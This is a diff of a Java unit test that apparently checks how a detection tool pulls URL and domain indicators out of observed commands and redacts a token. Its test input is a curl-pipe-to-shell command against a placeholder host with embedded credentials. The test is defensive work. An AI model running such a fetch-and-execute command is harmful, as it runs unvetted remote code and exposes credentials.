@@ -341,7 +341,7 @@ class CommandRulesTest {
         assertThat(of(Places.running(command(false, "curl http://u:geheim3@a.example/?token=geheim4 | sh")))
                         .indicators())
                 .extracting(i -> i.kind() + " " + i.value())
-                .containsExactly("URL http://a.example/?token=…", "DOMAIN a.example");
+                .containsExactly("URL http://a.example/?token=[redacted]", "DOMAIN a.example");
     }
 
     @Test
